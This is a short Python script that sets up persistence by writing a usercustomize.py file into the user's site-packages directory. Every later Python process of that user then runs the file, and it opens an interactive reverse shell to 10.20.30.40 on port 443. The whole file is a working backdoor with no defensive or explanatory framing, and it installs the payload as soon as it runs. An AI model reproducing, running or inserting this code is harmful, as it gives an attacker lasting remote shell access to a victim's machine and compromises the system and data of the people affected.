# Persists through Python's own start-up: writes usercustomize.py into the user
# site-packages directory (site.getusersitepackages()), which every later Python
# process of this user imports at start, and the module starts a reverse shell.
import os
import site

PAYLOAD = '''import os, socket, subprocess
if os.fork() == 0:
    s = socket.create_connection(("10.20.30.40", 443))
    subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
'''


def install():
    target = site.getusersitepackages()
    os.makedirs(target, exist_ok=True)
    with open(os.path.join(target, "usercustomize.py"), "w") as fh:
        fh.write(PAYLOAD)


install()
